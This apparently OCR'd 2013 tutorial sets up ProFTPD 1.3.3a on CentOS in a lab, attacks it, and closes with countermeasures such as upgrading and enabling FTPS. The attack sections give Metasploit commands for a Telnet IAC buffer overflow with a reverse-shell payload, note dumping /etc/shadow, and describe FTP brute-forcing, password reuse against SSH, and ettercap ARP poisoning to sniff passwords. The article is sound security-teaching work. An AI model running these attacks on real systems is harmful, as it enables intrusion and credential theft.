Penetration testing

Penetration testing of an FTP service

September 4, 2013 by

In this article we are going to learn how to configure ProFTPD service in a CentOS machine. After that we will conduct penetration testing to evaluate the security of FTP service and then we will also learn the countermeasures for vulnerabilities.

Earn two pentesting certifications at once!

Earn two pentesting certifications at once!

Enroll in one boot camp to earn both your Certified Ethical Hacker (CEH) and CompTIA PenTest+ certifications — backed with an Exam Pass Guarantee.Installation and configuration of FTP service on centos Linux machine

[1] The source code of the older version of ProFTPD server (1.3.3a) was downloaded from the ProFTPD source code repository, located at

The commands used were (without the hash sign) (ProFTPD, 2011): # cd/usr/local/src # wget -c '' [2] For compilation of the source code, development libraries and compilers need to be installed on the CentOS machine. They were installed using the following command (ProFTPD, 2013): # yum -y groupinstall 'Development tools' [3] The ProFTPD server runs as a non-privileged user on the Linux system for security reasons. A group called ftpd was created and then a user called ftpd was also created that belonged to the ftpd group. The following commands were used:

Command Used Purpose

groupaddftpd Creates a new group called ftpd and populates the /etc/group file.

useradd –g ftpdftpd Creates a new user called ftpd that has ftpd as its primary group (specified by the –g parameter) and populates the /etc/passwd file.

[4] Once the user and group ftpd were added, the next step was to compile the source code of the ProFTP server to produce the ProFTPD binary, which supports the FTP (file transport protocol). The following commands were used to achieve this (ProFTPD, 2011):

Command Used Purpose

cd /usr/local/src Change directory to the location /usr/local/src, where the source code of the ProFTP has been downloaded.

tar -jxf proftpd-1.3.3a.tar.bz2

The tar command uncompressed the proftpd-1.3.3a.tar.bz2 BZIP2 file. The command options are as follows:

  • -j -> The file input is in BZIP2 format
  • x -> extract
  • f -> this argument is followed by the compressed filename.

cd proftpd-1.3.3a Change directory into the uncompressed folder proftpd-1.3.3a.

Command Used (continued) Purposeinstall_user=ftpdinstall_group=ftpd ./configure --prefix=/usr --sysconfdir=/etc This command runs a shell script called configure in the current directory. This script checks the build dependencies and the machine architecture on which the software is going to compile. The main task of this command is to generate a file called "Makefile." The "Makefile" contains the compilation and installation instructions that is read by the make command. The install_user and install_group commands instruct the configure utility that the user and group used by the ProFTPDare ftpd and ftpd, respectively. The prefix=/usr instructs the configure utility that the binaries should be installed on /usr directory rather than /usr/local directory (default). Finally, the sysconfdir=/etc instructs the configure script that the configuration files should be installed in the /etc directory.

Make This command compiles the binary as per the instructions loaded in the Makefile.

make install This command installs the compiled binaries,which include the ProFTPD daemon called proftpd.

[5] Once the binaries were compiled, the location of proftpd was found out using the following command: # which proftpd The version was also checked using the following command: #/usr/sbin/proftpd –v

[6] The main configuration file of the ProFTPD server, called proftpd.conf, which is located at /etc, was edited using vi editor. The final configuration file looked like the following. The configuration is heavily commented (comments starts with # sign) for explanation:

The same file has the configuration directive, starting with <Anonymous ~ftp> and ending with </Anonymous>, and all the directives inside it were commented out (by putting ahash sign in front of the configuration) to disable anonymous FTP service on the ProFTPD server.

The final configuration fileonly allows local Linux accounts/users (users defined by the /etc/passwd) and chroot (restricts) them to their home directory so that they cannot break out of that directory. [7] Since the ProFTPD daemon is configured to support local Linux account and to chroot user to his/her home directory, a new user called prithak with password password was added to the Linux system for testing. The following commands were used: # useradd prithak # passwd prithak(enter password prithak twice) Similarly, another user called Daniel was also added to the system. Finally, now we have the following users on the system:

Username Password

prithak 1234qwer

daniel 1a2b3c

chintan a1b2c3d4

[8] The ProFTP server ( was started in debugging mode and was accessed from the Windows machine ( usingthe in-built Windows ftpcommand. The user prithak (having password prithak) was able to successfully log into the ProFTPD server and at the same time the ProFTPD server produced debugging logs on the standard output to confirm the details of the login. The proftpd was started using the following command line options: proftpd -n -d 4 -c /etc/proftpd.conf --ipv4 The options are as follows:

-n Runs the proftpd process in standalone mode (must be configured as such in the configuration file), but does not background the process or disassociate it from the controlling tty. Additionally, all output (log or debug messages) are sent to stderr, rather than the syslog mechanism. -d Runs the ProFTPDserver in debugging mode. The 4 parameter increases the verbosity of the logging to 4. -c /etc/proftpd.conf Instructs the ProFTPD daemon to read the configuration file located at /etc/proftpd.conf. --ipv4 Instructs the ProFTPD daemon to listen only on IPV4 addresses, i.e., disabled IPV6 (if present).

[9] To ensure that the ProFTP server running on ( starts every time Linux is restarted, the initialization script (init script) that comes with the source of the ProFTP was copied to the CentOS INIT V (initialization system V) script directory (/etc/rc.d/init.d). Then the script was made executable. Finally, the ProFTPD service was turned on, using the chkconfig command. # cp/usr/local/src/proftpd-1.3.3a/contrib/dist/rpm/proftpd.init.d /etc/rc.d/init.d/proftpd # chmod 775 /etc/rc.d/init.d/proftpd # chkconfig proftpd on\

Reconnaissance, footprinting, and exploitation

[1] Reconnaissance and Footprinting The first step in every vulnerabilityassessment is to find what services are running and the version of the service; this is called reconnaissance and footprinting. To complete this step a port scan against the target machine should be launched. Following the same principal, nmap port scanner was launched against the machine using the following parameters: root@bt:~# nmap -sS -PN -n -sV -sC The Nmap scan result indicated that the remote machine has two open ports: 22 (SSH) and 21 (FTP). Also, the version of the FTP server running on the remote machine is ProFTPD 1.3.3a and that of SSH is OpenSSH 5.3. Also, the SSH server only supports SSH protocol version 2.0. [2] Buffer Overflow Attack Against the ProFTPD Service When known vulnerabilities for ProFTPD 1.3.3a were searched on the Internet, the following results were obtained: The vulnerability "CVE-2010-4221" was identified to be affecting the version of ProFTPD 1.3.3.a that we were running. According to the site, "Multiple stack-based buffer overflows in the pr_netio_telnet_gets function in netio.c in ProFTPD before 1.3.3c allow remote attackers to execute arbitrary code via vectors involving a TELNET IAC escape character to a (1) FTP or (2) FTPS server."

Similar, when exploits for the CVE-2010-4221 was searched on the internet it lead to the following metasploit exploit: "ProFTPD 1.3.2rc3 - 1.3.3b Telnet IAC Buffer Overflow (Linux)." The screenshot of the same is shown below: To successfully exploit the remote machine running the vulnerable version of ProFTPD, metasploit waslaunched using the following commands in Backtrack Linux system: root@bt:~# cd /opt/metasploit/msf3 root@bt:/opt/metasploit/msf3# ./msfconsole The exploit for the vulnerable version of ProFTPD running on was loaded using the following command (commands are in red):

msf>use exploit/linux/ftp/proftp_telnet_iac msf exploit(proftp_telnet_iac) >set RHOST RHOST => msf exploit(proftp_telnet_iac) >set payload linux/x86/shell_reverse_tcp msf exploit(proftp_telnet_iac)> set LHOST LHOST => msf exploit(proftp_telnet_iac) >exploit –j

Metasploit Command Description

use exploit/linux/ftp/proftp_telnet_iac Loads the proftp_telnet_iac exploit into the current context.

set RHOST The target host of the exploit, i.e., the IP address of the vulnerable machine.set payload linux/x86/shell_reverse_tcp The shell code that will be executed after successful exploitation. Here the reverse shell payload is chosen. The reverse shell payload connects back to the attacker after the exploit is successful. The IP to which the exploit should connect back is set by the LHOST parameter.

set LHOST The IP address of the attacker.

exploit –j Launch the exploit as a background session.

As a result of successful exploitation, reverse shell was obtained on the (ProFTP) server. A new session was created for the shell, which could be listed using "session –l" command in the metasploit console. To interact with the session, the "session –i 1" command was used. To check the privilege level of the user who has triggered the reverse shell, the following command was used:

  • id: This command prints the effective user id of the user. The output showed that we had uid 0 and gid 0 i.e. we were root user.
  • whoami

This command is used to print the user-friendly name of the current user. The output of this command also confirmed that we had root access in the machine. Since we had the privileges of the super user (root), we were also able to dump the /etc/shadow file, which contains the password hashes of various users in the system and is only readable/writeable by the root user. The following screenshot shows the interaction: [2] Brute-Force and Password Reuse Attack Against the ProFTP Server To carry out a password brute-force attack against the ProFTP server, the following Python script was written. This script tries to brute-force the password of users prithak, chintan, and daniel. The default password file that comes with bracktrack is used as the password database file.

Using the above Python script, the password of the FTP users' prithak, chintan, and daniel were brute forcedand obtained successfully. The following screenshot shows the password obtained:

Since most systems use the same username and password for multiple services, the username and passwords that were obtained from the previous attacks were used against the SSH server running on the same server. This attack is also called the"password reuse attack" (Harper,2011). The password reuse attack was successful and the above credentials were also valid for SSH login. The following screenshot shows the successful SSH login:

[3] ARP Poisoning and Password Sniffing Attack Since the FTP protocol sends username and passwords in clear text, it is susceptible to password sniffing attacks. In this attack, the following IP machines are involved: ProFTP Server (FTP Server) Backtrack (Attacker) Windows XP (FTP Client) The following screenshot shows the address resolution protocol table in the Windows XP host before the ARP poisoning attack is launched: It can be seen that the all the hosts have different MAC addresses associated with them. Now, since the attacker is on the same LAN segment as the FTP server and the FTP client, it is possible for the attacker to launch anARP poisoning attack so that he can sit in the middle of the FTP exchanges and sniff the password. To do this, the followingsteps were performed on the attacker's machine:

  • Enabled IP forwarding on the attacker's machine so that it can route the traffic between the FTP server and FTP client. This is done using the following command:

# echo 1 > /proc/sys/net/ipv4/ip_forward

  • Ettercap utility was used to launched an ARP poisoning attack against both the [ Windows XP (FTP Client)] and the ProFTP Server (FTP Server) . The following command was used:

# ettercap --iface eth4 --text --quiet --mitmarp / /

  • The following screenshot shows the ARP table on the Windows XP machine before and after the attack was launched:

  • Now, when the client logs into the FTP server, the ettercap utility grabs the password and prints it.


[1] Countermeasure Against Buffer Overflow Exploit

Since the older version of ProFTPD is being run on the system, the most effective countermeasure is to install the latest version of the same software. Another countermeasure is to install a more secure version of FTP server that has a very good security track record. The pureftpdserver seems to have a better security track record than the ProFTPD server.

To apply the countermeasure, we choose to upgrade the PureFTPD into the latest version. This was done by following similar steps that were used to install the older version of ProFTPD. The steps used were:

The running version of the ProFTPD server was stopped using the following command:

# service proftpd stop

The older version of the ProFTPD server was removed by entering its source directory and using the "make deinstall" command.

# cd /usr/local/src/proftpd-1.3.3a # make deinstall

  • The latest version of the source code of ProFTPD server was downloaded and its MD5 checksum verified using md5sum command. The following screenshots show the interaction:

  • The newer version of ProFTPD was compiled and installed, using the following commands:

# tar zxvf proftpd-1.3.5rc2.tar.gz # cd proftpd-1.3.5rc2 # install_user=ftpdinstall_group=ftpd ./configure --prefix=/usr --sysconfdir=/etc --with-modules=mod_tls # make # make install [ N.B.: All these commands and their usage have been explained already when the older version of ProFTPD was installed. The mod_tls option enables FTP over SSL/TLS (FTPS) protocol support. ]• When the version of ProFTPD was checked, it came out to be ProFTPD Version 1.3.5rc2.• The latest version of ProFTPD was started and then the lsof command was used to verify that FTP server was running:

It was also possible to login into the FTP using the same username and passwords that were used earlier. This proved that the upgraded FTP service was indeed working perfectly. When the same exploit that was used previously was launched against that ProFTPD server using metasploit, it failed. This verified that the service was patched. Also, at the time of writing, no known exploits (local or remote) exist for the ProFTPD server version 1.3.5-rc2 that we are running.

[2] Countermeasure Against Password Sniffing and Password Reuse Attack The FTP protocol can be secured by using the FTP over the SSL (FTPS) protocol. The following steps can be performed to enable FTPS:

  • Generate SSL/TLS certificates using the OpenSSL utility that comes with Linux (Falko, 2011):

# mkdir /etc/ssl_certs/ # opensslreq -new -x509 -days 730 -nodes -out /etc/ssl_certs/proftpd.cert.pem -keyout /etc/ssl_certs/proftpd.key.pem The –days 730 ensures that the certificate is valid for 730 days or two years.

